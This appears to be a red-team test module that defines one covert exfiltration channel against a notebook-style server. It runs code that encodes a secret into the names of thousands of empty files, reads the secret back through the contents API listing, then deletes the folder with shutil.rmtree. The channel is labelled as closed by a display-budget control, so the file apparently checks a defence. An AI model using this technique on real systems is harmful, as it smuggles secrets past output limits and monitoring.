from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.channels.display_budget import spend
from tests.redteam.targets import Target

NAMES = """
import os
text = secret.hex()
for number in range(0, len(text), 240):
    folder = f"names/{number // 240_000:03}"
    os.makedirs(folder, exist_ok=True)
    open(f"{folder}/{number // 240:06}{text[number:number + 240]}", "w").close()
"""
CLEAR = "import shutil; shutil.rmtree('names');"


@channel(
    "display-budget-names",
    "A megabyte in the names of nine thousand files, once the display budget is spent",
    closed_by="display budget: what a listing shows counts, too",
    size=1 << 20,
    stage=3,
)
def attack(site: Target, secret: bytes) -> bytes | None:
    spend(site)
    site.run(NAMES)
    entries = []
    for folder in site.get("api/contents/names?content=1").document.get("content") or ():
        entries += site.get(f"api/contents/{folder['path']}?content=1").document.get("content") or ()
    site.run(CLEAR)
    return "".join(entry["name"][6:] for entry in sorted(entries, key=lambda each: each["name"])).encode()
